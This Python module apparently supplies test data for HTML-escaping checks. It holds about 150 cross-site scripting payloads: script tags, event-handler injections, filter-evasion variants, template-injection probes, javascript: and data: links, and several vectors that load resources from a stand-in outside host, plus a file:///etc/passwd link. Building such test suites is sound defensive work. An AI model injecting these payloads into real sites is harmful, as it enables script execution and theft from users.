"""Texts that would run or fetch something in a page that does not escape them."""

from itertools import product

AWAY = "//outside.invalid/x"

_HANDLERS = (
    ("img", "src=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload"), ("body", "", "onpageshow"),
    ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("iframe", "srcdoc=x", "onload"), ("object", "data=x", "onerror"), ("embed", "src=x", "onload"),
    ("script", "src=x", "onerror"), ("link", "rel=stylesheet href=x", "onerror"), ("style", "", "onload"),
    ("marquee", "", "onstart"), ("a", "href=# autofocus tabindex=0", "onfocus"), ("image", "src=x", "onerror"),
    ("svg><animate", "attributeName=x dur=1s", "onbegin"), ("svg><set", "attributeName=x", "onbegin"),
    ("video><source", "src=x", "onerror"), ("math><mtext", "", "onclick"), ("p", "style=animation:x", "onanimationstart"),
)  # fmt: skip
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "--></script>")

_WHOLE = (
    "<script>alert(1)</script>", f"<script src={AWAY}></script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>", "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />",
    f"<img src={AWAY}>", f"<img srcset={AWAY}>", f"<image href={AWAY}>", f"<svg><image href={AWAY} /></svg>", f"<video poster={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>", f"<link rel=prefetch href={AWAY}>", f"<style>@import '{AWAY}';</style>",
    f"<style>*{{background:url({AWAY})}}</style>", f'<div style="background:url({AWAY})">x</div>', f"<iframe src={AWAY}></iframe>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={AWAY}></object>", f"<embed src={AWAY}>", f"<base href={AWAY}/>", f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", f"<form action={AWAY}><button autofocus>x</button></form>",
    "<a href=javascript:alert(1)>x</a>", '<a href="java\tscript:alert(1)">x</a>', "<a href='&#106;avascript:alert(1)'>x</a>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>", "<xmp><img alt='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "{{7*7}}{% raw %}<img src=x onerror=alert(1)>", "{{ ''.__class__.__mro__ }}", "${alert(1)}", "#{alert(1)}", "`-alert(1)-`",
    '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='", "x onmouseover=alert(1)", '\\"><img src=x onerror=alert(1)>',
    "\u2028<img src=x onerror=alert(1)>", "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;", "\\u003cscript\\u003ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x02<img src=x onerror=alert(1)>\x03",
    "</mark><script>alert(1)</script><mark>", "</time><img src=x onerror=alert(1)>", "</td></tr></table><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)//", "<img src=x onerror=alert(1)//", "<img\x0csrc=x\x0conerror=alert(1)>", "<img/src/onerror=alert(1)>", "<x onclick=alert(1) autofocus tabindex=1>x",
)  # fmt: skip

LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "javascript://x/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "view-source:x", "blob:x", "file:///etc/passwd", "//outside.invalid/x",
    'https://x.example/"onmouseover=alert(1)//', "https://x.example/'><img src=x onerror=alert(1)>", "feed:javascript:alert(1)",
)  # fmt: skip

TEXTS = _WHOLE + tuple(
    f"{before}<{tag} {more} {event}=alert(1)>" for before, (tag, more, event) in product(_BREAKS, _HANDLERS)
)
VECTORS = (TEXTS + LINKS)[: 150 - len(LINKS)] + LINKS
